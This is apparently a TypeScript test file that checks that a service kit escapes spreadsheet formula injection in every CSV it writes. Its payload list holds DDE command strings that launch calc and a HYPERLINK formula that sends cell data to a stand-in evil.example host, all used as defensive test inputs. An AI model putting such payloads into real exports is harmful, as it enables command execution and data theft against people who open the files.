import { writeCsv } from '@overland/service-kit';
import { parse } from 'csv-parse/sync';
import { runtimeSources } from './source-files.js';

const writer = 'libs/service-kit/src/spreadsheets/write-csv.ts';
const copier = 'libs/service-kit/src/database/list/list-as-file.ts';
/** It names the ends of lines, as a writer would. */
const reader = 'libs/service-kit/src/spreadsheets/read-csv.ts';
/** Packages that write CSV, most of them without a guard unless asked for it. */
const packages =
  /from '(?:csv-stringify|csv|fast-csv|@fast-csv|papaparse|json2csv|@json2csv|csv-writer)(?:\/[^']*)?'/;
/** The end of a record. */
const record = /\\r\\n[`']/;

const payloads = [
  ...[
    '=1+1',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
    '+1+1',
    '-2+3',
    '@SUM(1+1)',
  ],
  ...[
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '\r\n=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    'A","=1+1","B',
    '=1\n=2',
    "-2+3+cmd|' /C calc'!D2",
  ],
];

describe('T19: formulas in CSV', () => {
  it('are escaped wherever CSV is written: by one function', () => {
    const sources = runtimeSources(['services/*', 'libs/*', 'gateway', 'stack']);
    const writers = sources.filter(
      ({ path, text }) => packages.test(text) || (path !== reader && /csv/i.test(text) && record.test(text)),
    );
    const paths = writers.map(({ path }) => path);
    expect(paths).toEqual([writer]);
  });

  it('are escaped where PostgreSQL writes CSV: in one place, by what the same function is made of', () => {
    const sources = runtimeSources(['services/*', 'libs/*', 'gateway', 'stack']);
    const copies = sources.filter(({ text }) => /format csv|csv header/i.test(text));
    expect(copies.map(({ path }) => path)).toEqual([writer, copier]);
    expect(copies[1]?.text).toContain("kind === 'text' ? csvTextSql(cell)");
  });

  it(`become text, in ${payloads.length} payloads, while numbers stay numbers`, () => {
    const csv = writeCsv([...payloads.map((payload) => [payload]), [12.5], [-3], ['10234']]);
    const cells = parse(csv, { bom: true, relax_column_count: true }).map(([cell = '']) => cell);
    expect(cells).toHaveLength(payloads.length + 3);
    expect(cells.slice(0, -3).filter((cell) => /^[=+\-@\t\r\n＝＋－＠]/.test(cell))).toEqual([]);
    expect(cells.slice(0, -3).map((cell) => cell.replace(/^'/, ''))).toEqual(payloads);
    expect(cells.slice(-3)).toEqual(['12.5', '-3', '10234']);
  });
});
